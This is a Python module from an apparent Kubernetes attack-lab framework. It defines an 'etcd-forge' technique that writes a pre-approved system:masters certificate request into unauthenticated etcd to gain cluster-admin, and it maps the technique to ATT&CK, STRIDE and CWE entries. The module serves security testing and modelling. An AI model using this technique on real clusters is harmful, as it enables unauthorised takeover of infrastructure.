"""Become cluster-admin by writing into etcd without a credential.

The attacker needs a connection to the client port of etcd. They write a certificate signing
request for ``system:masters`` that is already marked as approved. The apiserver's checks do not
apply to a direct write, and the controller manager signs the request. It stops if etcd asks for
client certificates, or if its users may write only their own keys.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING

from labkit.model import Foothold, Model
from labkit.techniques._lib.api.forged import requests_after
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.stores import forge as forging
from labkit.techniques._lib.stores.etcd import answers_anonymous, ask, decode, encode
from labkit.techniques._lib.technique import (
    ADMIN,
    NETWORK,
    POD,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    SentRequest,
    Technique,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

TAKEN = "HTTP 200, etcd takes what anybody writes; Kubernetes believes etcd"


@dataclass(frozen=True, slots=True)
class _AnonymousStore:
    """etcd over its JSON gateway, without a credential."""

    lab: Lab
    foothold: Foothold

    def put(self, key: str, value: bytes) -> Answer:
        return ask(self.lab, "put", key, self.foothold, value=encode(value))

    def get(self, key: str) -> bytes:
        return b"".join(decode(ask(self.lab, "range", key, self.foothold)))


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether etcd accepts callers without a credential."""
    return answers_anonymous(model)


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return what the attacker asks the apiserver with the certificate."""
    return requests_after(model, predict(model, foothold))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Write an approved certificate request into etcd, and use the signed certificate."""
    how = "without a credential"
    return forging.forge(lab, TECHNIQUE.name, foothold, _AnonymousStore(lab, foothold), how, TAKEN)


TECHNIQUE = Technique(
    name="etcd-forge",
    title="Become cluster-admin by writing into etcd",
    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
    grants=(ADMIN,),
    about="kube-apiserver@* -> etcd@*",
    properties=("encryption", "client_authentication", "authorization"),
    attack=("T1565.001", "T1098"),
    stride=("tampering", "elevation of privilege"),
    cwe=("CWE-306", "CWE-345"),
    sources=forging.SOURCES,
    predict=predict,
    execute=execute,
    requests=requests,
    leaves=forging.LEAVES,
)
